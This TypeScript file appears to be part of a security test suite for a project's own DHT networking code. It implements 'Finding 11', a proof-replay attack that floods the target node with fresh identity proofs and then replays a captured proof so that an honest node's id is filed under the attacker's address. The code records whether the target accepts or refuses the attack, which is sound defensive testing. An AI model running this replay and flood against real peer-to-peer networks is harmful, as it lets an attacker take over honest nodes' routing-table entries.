/**
 * Finding 11, proof replay: a request that proves its sender's id, copied off the wire and sent again from
 * the attacker's address, at another node or (after flooding the target with fresh proofs, so that it
 * forgets which ones it has seen) at the same node. A node that accepts it files the honest id under the
 * attacker's address: once the honest node is offline, its routing-table entry is the attacker's.
 */
import { MsgType, type Endpoint } from "../../dht/codec.ts";
import { randomId } from "../../dht/id.ts";
import { generateIdentity } from "../../identity/identity.ts";
import { paced, realWait, type AttackReport, type Wait } from "./dht-attacks.ts";
import type { RawDhtPeer } from "./dht-raw-peer.ts";

export interface ProofReplayOptions {
  /** A request carrying an honest node's id proof, as captured on the wire. */
  captured: Uint8Array;
  attacker: RawDhtPeer;
  target: Endpoint;
  /** Requests with fresh proofs sent before the replay. @default 0 */
  flood?: number;
  perSecond?: number;
  /** Whether the target now files the honest id under the attacker's address. */
  planted: () => boolean;
  settleMs?: number;
  wait?: Wait;
}

export async function replayRequestProof(o: ProofReplayOptions): Promise<AttackReport> {
  const wait = o.wait ?? realWait;
  if (o.flood) {
    await o.attacker.ask(o.target, { type: MsgType.PING });
    // Each from a fresh id: a node skips the proofs of ids it already holds at that address.
    await paced(o.flood, o.perSecond, wait, () => o.attacker.send(o.target, { type: MsgType.FIND_NODE, target: randomId() }, { prove: true, as: generateIdentity() }));
    await wait(200);
  }
  o.attacker.sendRaw(o.captured, o.target);
  await wait(o.settleMs ?? 1500);
  const planted = o.planted();
  return { finding: 11, attack: o.flood ? "dht-proof-replay-after-flood" : "dht-proof-replay", outcome: planted ? "succeeded" : "refused", detail: { flood: o.flood ?? 0, planted } };
}
